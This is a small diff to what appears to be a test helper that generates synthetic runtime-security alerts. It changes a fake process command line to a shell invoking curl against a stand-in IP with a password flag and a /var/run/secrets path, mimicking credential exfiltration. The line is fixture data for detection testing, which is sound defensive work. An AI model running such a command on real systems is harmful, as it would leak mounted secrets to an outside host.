@@ -104,7 +104,7 @@ def _alert(number: int, chain: Sequence[str], tags: Sequence[str]) -> bytes:
         "evt.type": "execve",
         "proc.name": name,
         "proc.exepath": file,
-        "proc.cmdline": f"{name} -c x --url http://192.0.2.1/x --password x /var/run/secrets/x",
+        "proc.cmdline": f"{name} -c curl --url http://192.0.2.1/x --password x /var/run/secrets/x",
         "proc.pid": 100 + number,
         "proc.ppid": 10,
         "proc.pname": above[0],
